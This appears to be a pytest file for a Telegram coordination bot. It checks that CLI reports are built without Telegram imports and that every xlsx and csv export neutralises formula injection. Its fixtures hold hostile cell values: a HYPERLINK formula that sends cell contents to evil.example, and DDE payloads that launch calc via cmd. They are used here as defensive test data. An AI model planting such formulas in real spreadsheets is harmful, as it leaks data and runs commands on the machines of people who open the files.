"""Documents are built outside the chat: `koordinator report` makes its files without
importing Telegram or any handler; no file the project writes carries a live formula."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot import cli
from bot.documents.cells import FORMULA_STARTS
from bot.documents.cells import safe_cell
from storage.models import CheckIn
from storage.models import Outcome
from tests.conftest import Database
from tests.conftest import People
from tests.harness import BotHarness
from tests.projects import checkin
from tests.projects import insert_participants
from tests.projects import insert_rows
from tests.projects import local
from tests.projects import participant


def koordinator(tmp_path: Path, *args: str, python: tuple[str, ...] = ()
                ) -> subprocess.CompletedProcess[str]:
    environment = {k: v for k, v in os.environ.items()
                   if not k.startswith(("TELEGRAM_", "DATABASE_", "DATA_DIR"))}
    environment.update({"DATA_DIR": str(tmp_path / "data"), "DEFAULT_LANGUAGE": "en"})
    return subprocess.run([sys.executable, *python, "-m", "bot.cli", *args], cwd=tmp_path,
                          env=environment, capture_output=True, text=True, timeout=120)


def imported_modules(importtime_stderr: str) -> set[str]:
    """Module names from `-X importtime` lines (`import time: self | cumulative | name`)."""
    return {line.rsplit("|", 1)[1].strip() for line in importtime_stderr.splitlines()
            if line.startswith("import time:") and line.count("|") == 2}


def test_cli_report_is_built_without_telegram_or_handlers(tmp_path: Path) -> None:
    assert koordinator(tmp_path, "db", "upgrade").returncode == 0
    for kind, out in (("outcomes", "outcomes.xlsx"), ("esf-entry", "entry.csv")):
        done = koordinator(tmp_path, "report", kind, "--out", out, python=("-X", "importtime"))
        assert done.returncode == 0, done.stderr[-2000:]
        modules = imported_modules(done.stderr)
        assert "bot.documents.reports" in modules, "the probe must see the builder's import"
        leaked = sorted(m for m in modules if m.split(".")[0] in {"telegram", "handlers"})
        assert leaked == [], leaked
    book = load_workbook(io.BytesIO((tmp_path / "outcomes.xlsx").read_bytes()))
    assert book.sheetnames[0] == "By gender"
    assert (tmp_path / "entry.csv").read_bytes().startswith(b"\xef\xbb\xbfReport")


# ---- formula injection (issue 21, point 8) --------------------------------------------------
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2&B2,"Växjö")'
HOSTILE_NAMES = ["@SUM(1+1)*cmd|' /C calc'!A0", "+46 70 123", "-2+3", "\tTabbed", "\rReturned"]


def csv_fields(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=";" if ";" in text else ",")
    return [field for row in reader for field in row]


def text_cells(content: bytes) -> list[str]:
    """Every cell's text; fails on a cell that is a formula."""
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_neutralised(content: bytes, file_format: str, *, carries_names: bool) -> None:
    values = text_cells(content) if file_format == "xlsx" else csv_fields(content)
    dangerous = [value for value in values if value.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous
    if carries_names:  # the hostile text is there, made harmless
        assert "'" + HYPERLINK in values


@pytest.fixture
async def hostile_project(db: Database, people: People) -> None:
    assert people.bo.staff is not None and people.bo.staff.id is not None
    bo = people.bo.staff.id
    rows = [participant(bo, municipality=HYPERLINK, enrolled_on=date(2026, 9, 1), name=name)
            for name in HOSTILE_NAMES]
    rows.append(participant(bo, municipality=HYPERLINK, enrolled_on=date(2026, 9, 1),
                            ended_on=date(2026, 10, 20), outcome=Outcome.EMPLOYED,
                            name="=1+1"))
    ids = await insert_participants(db, rows)
    await insert_rows(db, CheckIn, [{**checkin(ids[row["code"]], bo, local(2026, 10, 1, 10)),
                                     "note": "=cmd|' /C calc'!A0"} for row in rows])


async def test_no_export_or_report_carries_a_live_formula(
    bot: BotHarness, people: People, db: Database, hostile_project: None, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    admin = people.admin.user
    for file_format in ("xlsx", "csv"):
        [document] = await bot.send(admin, f"/export {file_format} all")
        assert_neutralised(bot.api.files[document.document_id].content, file_format,
                           carries_names=True)
        for kind in ("esf-entry", "esf-result", "scb-monthly", "outcomes"):
            [document] = await bot.send(admin, f"/report {kind} all {file_format}")
            assert document.document_id, document.text
            assert_neutralised(bot.api.files[document.document_id].content, file_format,
                               carries_names=kind in {"scb-monthly", "outcomes"})
    [document] = await bot.send(admin, "/attendance 2026-11")
    content = bot.api.files[document.document_id].content
    assert_neutralised(content, "xlsx", carries_names=True)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in text_cells(content)

    # The command line writes through the same builders.
    monkeypatch.setenv("DATABASE_URL", db.url)
    monkeypatch.setenv("DATABASE_SCHEMA", db.schema or "")
    monkeypatch.setenv("DEFAULT_LANGUAGE", "en")
    monkeypatch.setattr(cli.logs, "configure", lambda *_args: None)  # keep pytest's logging
    for file_format in ("xlsx", "csv"):
        out = tmp_path / f"scb.{file_format}"
        assert await asyncio.to_thread(cli.main, ["report", "scb-monthly", "--out",
                                                  str(out)]) == 0
        assert_neutralised(out.read_bytes(), file_format, carries_names=True)


def test_only_text_that_a_spreadsheet_would_evaluate_is_changed() -> None:
    assert [safe_cell(v) for v in ["=1", "+1", "-1", "@A", "\t", "\r", "Växjö", "a=b", ""]] == [
        "'=1", "'+1", "'-1", "'@A", "'\t", "'\r", "Växjö", "a=b", ""]
    assert [safe_cell(v) for v in [-1, 2.5, None, date(2026, 1, 1)]] == [
        -1, 2.5, None, date(2026, 1, 1)]
